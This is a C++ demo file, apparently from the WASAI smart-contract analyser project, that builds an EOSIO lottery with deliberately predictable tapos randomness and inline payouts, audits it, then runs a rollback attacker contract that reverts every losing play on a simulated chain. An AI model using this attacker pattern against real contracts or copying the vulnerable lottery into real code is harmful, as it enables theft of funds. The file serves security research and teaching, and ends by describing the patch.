@@ -1,0 +1,196 @@
+// Audit + exploit demo: a Listing-4-style lottery that draws its
+// randomness from tapos block state (§2.3.4) and pays winners with an
+// inline action (§2.3.5).
+//
+// Part 1 builds the lottery contract (as the EOSIO SDK would) and audits
+// it with WASAI: both the BlockinfoDep and the Rollback findings appear.
+// Part 2 actually runs the rollback exploit: an attacker contract plays
+// the lottery and, inside the SAME transaction, checks its balance and
+// reverts whenever it lost — a strategy that can never lose money.
+//
+//   ./audit_lottery
+#include <cstdio>
+#include <cstring>
+
+#include "chain/token.hpp"
+#include "corpus/templates.hpp"
+#include "wasai/wasai.hpp"
+
+namespace {
+
+using namespace wasai;
+using abi::eos;
+using abi::eos_symbol;
+using abi::name;
+using abi::Name;
+using chain::Action;
+using chain::active;
+using wasm::Instr;
+using wasm::Opcode;
+
+/// Build the lottery: transfer(from, to, quantity, memo) pays 5.0000 EOS
+/// back to the player whenever (tapos_prefix * tapos_num) % 3 == 0.
+corpus::Sample build_lottery() {
+  corpus::ContractBuilder b;
+  const auto env = b.env();
+
+  // Packed payout action template with placeholder names; the contract
+  // patches in _self (authorizer/sender) and the player at runtime.
+  const Name ph_self(0xd1d2d3d4d5d6d7d8ull);
+  const Name ph_from(0xe1e2e3e4e5e6e7e8ull);
+  const auto packed = chain::pack_action(chain::token_transfer(
+      name("eosio.token"), ph_self, ph_from, eos(5'0000), "win!"));
+  std::vector<std::uint32_t> self_offsets, from_offsets;
+  for (std::size_t i = 0; i + 8 <= packed.size(); ++i) {
+    std::uint64_t v = 0;
+    std::memcpy(&v, packed.data() + i, 8);
+    if (v == ph_self.value()) self_offsets.push_back(i);
+    if (v == ph_from.value()) from_offsets.push_back(i);
+  }
+  constexpr std::uint32_t kPayout = corpus::kScratchRegion + 256;
+  b.raw().add_data(kPayout, std::vector<std::uint8_t>(packed.begin(),
+                                                      packed.end()));
+
+  std::vector<Instr> body = {
+      // if (to != _self) return;  — the Listing-2 payee check (also keeps
+      // the lottery from reacting to its own outgoing payouts)
+      wasm::local_get(2),
+      wasm::local_get(0),
+      Instr(Opcode::I64Ne),
+      wasm::if_(),
+      Instr(Opcode::Return),
+      Instr(Opcode::End),
+      // if ((tapos_block_prefix() * tapos_block_num()) % 3 == 0) ...
+      wasm::call(env.tapos_block_prefix),
+      wasm::call(env.tapos_block_num),
+      Instr(Opcode::I32Mul),
+      wasm::i32_const(3),
+      Instr(Opcode::I32RemU),
+      Instr(Opcode::I32Eqz),
+      wasm::if_(),
+  };
+  for (const auto off : self_offsets) {
+    body.push_back(wasm::i32_const(static_cast<std::int32_t>(kPayout + off)));
+    body.push_back(wasm::local_get(0));  // _self
+    body.push_back(wasm::mem_store(Opcode::I64Store));
+  }
+  for (const auto off : from_offsets) {
+    body.push_back(wasm::i32_const(static_cast<std::int32_t>(kPayout + off)));
+    body.push_back(wasm::local_get(1));  // the player
+    body.push_back(wasm::mem_store(Opcode::I64Store));
+  }
+  body.push_back(wasm::i32_const(kPayout));
+  body.push_back(wasm::i32_const(static_cast<std::int32_t>(packed.size())));
+  body.push_back(wasm::call(env.send_inline));  // the Rollback flaw
+  body.push_back(Instr(Opcode::End));
+  body.push_back(Instr(Opcode::End));
+
+  corpus::ActionOptions opts;
+  opts.require_code_match = false;
+  opts.guard_code_is_token = true;  // Fake-EOS-patched, per Listing 1
+  b.add_action(abi::transfer_action_def(), {}, std::move(body), opts);
+
+  corpus::Sample sample;
+  sample.abi = b.abi();
+  sample.wasm = std::move(b).build_binary(corpus::DispatcherStyle::Standard);
+  sample.tag = "tapos-lottery";
+  return sample;
+}
+
+/// The exploit contract of §2.3.5: play and verify inside ONE transaction.
+class RollbackAttacker : public chain::NativeContract {
+ public:
+  RollbackAttacker(Name self, Name token, Name lottery)
+      : self_(self), token_(token), lottery_(lottery) {}
+
+  void apply(chain::ApplyContext& ctx) override {
+    if (ctx.action_name() == name("attack")) {
+      balance_before_ =
+          chain::token_balance(ctx.chain(), token_, self_, eos_symbol())
+              .amount;
+      // Inline #1: play the lottery (the stake leaves our balance).
+      ctx.send_inline(chain::token_transfer(token_, self_, lottery_,
+                                            eos(1'0000), "play"));
+      // Inline #2: afterwards, audit our own balance.
+      Action check;
+      check.account = self_;
+      check.name = name("check");
+      check.authorization = {active(self_)};
+      ctx.send_inline(check);
+    } else if (ctx.action_name() == name("check")) {
+      const auto now =
+          chain::token_balance(ctx.chain(), token_, self_, eos_symbol())
+              .amount;
+      if (now < balance_before_) {
+        // Lost: revert the whole transaction — the stake is restored.
+        throw util::Trap("eosio_assert: revert to avoid loss");
+      }
+    }
+  }
+
+ private:
+  Name self_, token_, lottery_;
+  std::int64_t balance_before_ = 0;
+};
+
+}  // namespace
+
+int main() {
+  const corpus::Sample lottery = build_lottery();
+
+  // ---- Part 1: audit -----------------------------------------------------
+  std::printf("=== Part 1: WASAI audit of the tapos lottery ===\n");
+  AnalysisOptions analysis;
+  analysis.fuzz.iterations = 48;
+  const auto result = analyze(lottery.wasm, lottery.abi, analysis);
+  for (const auto& finding : result.report.findings) {
+    std::printf("  [%s] %s\n", scanner::to_string(finding.type),
+                finding.detail.c_str());
+  }
+
+  // ---- Part 2: exploit ----------------------------------------------------
+  std::printf("\n=== Part 2: running the rollback exploit ===\n");
+  chain::Controller chain;
+  const Name token = name("eosio.token");
+  const Name victim = name("lotto");
+  const Name evil = name("evilplayer");
+  chain.deploy_native(token, std::make_shared<chain::TokenContract>());
+  chain.deploy_contract(victim, lottery.wasm, lottery.abi);
+  chain.deploy_native(evil,
+                      std::make_shared<RollbackAttacker>(evil, token, victim));
+  chain.push_action(chain::token_create(token, token, eos(1'000'000'0000)));
+  chain.push_action(
+      chain::token_issue(token, token, evil, eos(100'0000), "stake"));
+  chain.push_action(
+      chain::token_issue(token, token, victim, eos(1'000'0000), "bankroll"));
+
+  const auto balance = [&](Name who) {
+    return chain::token_balance(chain, token, who, eos_symbol());
+  };
+
+  const auto start = balance(evil);
+  int wins = 0, reverted = 0;
+  for (int i = 0; i < 30; ++i) {
+    Action attack;
+    attack.account = evil;
+    attack.name = name("attack");
+    attack.authorization = {active(evil)};
+    const auto r = chain.push_action(attack);
+    if (r.success) {
+      ++wins;
+    } else {
+      ++reverted;
+    }
+  }
+  const auto end = balance(evil);
+
+  std::printf("  30 rounds: %d wins kept, %d losses reverted\n", wins,
+              reverted);
+  std::printf("  attacker balance: %s -> %s (net %+0.4f EOS, never a loss)\n",
+              start.to_string().c_str(), end.to_string().c_str(),
+              (end.amount - start.amount) / 10000.0);
+  std::printf(
+      "\nThe patch (§2.3.5): schedule the reveal with send_deferred so the "
+      "play and the payout land in different transactions.\n");
+  return 0;
+}
